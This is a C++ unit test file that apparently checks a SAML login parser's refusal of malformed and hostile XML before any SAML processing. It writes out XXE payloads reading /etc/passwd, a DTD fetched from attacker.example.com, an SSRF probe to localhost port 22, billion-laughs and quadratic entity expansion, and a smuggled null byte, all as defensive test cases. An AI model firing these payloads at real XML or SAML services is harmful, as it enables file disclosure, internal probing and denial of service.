// Before any SAML: base64, size, XML itself and its bombs.
#include "base/bytes.h"
#include "unit/saml/attack.h"

namespace ncp::test {
namespace {

using login::saml::Refusal;
using P = const InventedProvider&;

std::string with_doctype(P provider, const std::string& doctype) {
    return base64_encode("<!DOCTYPE samlp:Response " + doctype + ">" +
                         provider.response(provider.sign(provider.assertion(), "_assertion")));
}

std::string repeated(const std::string& text, std::size_t times) {
    std::string made;
    for (std::size_t i = 0; i < times; ++i)
        made += text;
    return made;
}

std::string declared(int namespaces) {
    std::string made;
    for (int i = 0; i < namespaces; ++i)
        made += " xmlns:q" + std::to_string(i) + "=\"u:" + std::to_string(i) + "\"";
    return made;
}

std::string billion_laughs() {
    std::string entities = "[<!ENTITY a0 \"lol\">";
    for (int i = 1; i < 10; ++i) {
        const std::string before = "&a" + std::to_string(i - 1) + ";";
        entities += "<!ENTITY a" + std::to_string(i) + " \"" + repeated(before, 10) + "\">";
    }
    return entities + "]";
}

std::string inside_a_value(P provider, const std::string& text) {
    return base64_encode(provider.response(
        replaced(provider.sign(provider.assertion(), "_assertion"), "_name1", text)));
}

}  // namespace

std::vector<Attack> attacks_on_bytes() {
    return {
        {"Nothing", Refusal::not_base64, [](P) { return std::string(); }},
        {"GarbageInsteadOfBase64", Refusal::not_base64, [](P) { return "<samlp:Response/>"; }},
        {"TruncatedBase64", Refusal::not_base64,
         [](P p) { return p.with_signed_assertion().substr(0, 1001); }},
        {"BytesBehindBase64", Refusal::not_base64,
         [](P p) { return p.with_signed_assertion() + "\x01"; }},
        {"Base64WithPaddingInside", Refusal::not_base64,
         [](P p) { return "QQ==" + p.with_signed_assertion(); }},
        {"TruncatedXml", Refusal::not_xml,
         [](P p) {
             const std::string whole = *base64_decode(p.with_signed_assertion());
             return base64_encode(whole.substr(0, whole.size() / 2));
         }},
        {"TwoDocuments", Refusal::not_xml,
         [](P p) {
             const std::string whole = *base64_decode(p.with_signed_assertion());
             return base64_encode(whole + whole);
         }},
        {"TextBehindTheDocument", Refusal::not_xml,
         [](P p) { return base64_encode(*base64_decode(p.with_signed_assertion()) + "x"); }},
        {"ZeroByteInAName", Refusal::not_xml,
         [](P p) { return inside_a_value(p, std::string("ad\0min", 6)); }},
        {"NotUtf8", Refusal::not_xml, [](P p) { return inside_a_value(p, "\xff\xfe"); }},
        {"UnknownEntity", Refusal::not_xml, [](P p) { return inside_a_value(p, "&admin;"); }},
        {"DocumentType", Refusal::document_type,
         [](P p) { return with_doctype(p, "SYSTEM \"https://attacker.example.com/x.dtd\""); }},
        {"ExternalEntityOfAFile", Refusal::document_type,
         [](P p) { return with_doctype(p, "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]"); }},
        {"ExternalEntityOfAnAddress", Refusal::document_type,
         [](P p) { return with_doctype(p, "[<!ENTITY x SYSTEM \"http://127.0.0.1:22/\">]"); }},
        {"ParameterEntity", Refusal::document_type,
         [](P p) { return with_doctype(p, "[<!ENTITY % x SYSTEM \"http://a.example/\"> %x;]"); }},
        {"DefaultAttributeByDocumentType", Refusal::document_type,
         [](P p) { return with_doctype(p, "[<!ATTLIST saml:Assertion ID ID \"_assertion\">]"); }},
        {"BillionLaughs", Refusal::document_type,
         [](P p) { return with_doctype(p, billion_laughs()); }},
        {"QuadraticBlowUp", Refusal::document_type,
         [](P p) {
             return with_doctype(p, "[<!ENTITY a \"" + std::string(100'000, 'a') + "\">]");
         }},
        {"LargerThanAnyLogin", Refusal::too_large,
         [](P p) { return inside_a_value(p, std::string(600U << 10, 'x')); }},
        {"DeeperThanAnyLogin", Refusal::too_complex,
         [](P) { return base64_encode(repeated("<a>", 20'000) + repeated("</a>", 20'000)); }},
        {"ManyTinyElements", Refusal::too_complex,
         [](P) { return base64_encode("<a>" + repeated("<b/>", 90'000) + "</a>"); }},
        {"MoreElementsThanAnyPersonNeeds", Refusal::too_complex,
         [](P p) { return inside_a_value(p, repeated("<b/>", 4'500)); }},
        {"NamespacesByTheDozen", Refusal::too_complex,
         [](P p) { return inside_a_value(p, "<a" + declared(20) + "/>"); }},
        {"NamespacesOneBelowTheOther", Refusal::too_complex,
         [](P p) {
             const std::string four = declared(4);
             return inside_a_value(p, repeated("<b" + four + ">", 5) + repeated("</b>", 5));
         }},
        {"ManyAttributes", Refusal::too_complex,
         [](P) {
             std::string element = "<a";
             for (int i = 0; i < 30'000; ++i)
                 element += " a" + std::to_string(i) + "=\"\"";
             return base64_encode(element + "/>");
         }},
    };
}

}  // namespace ncp::test
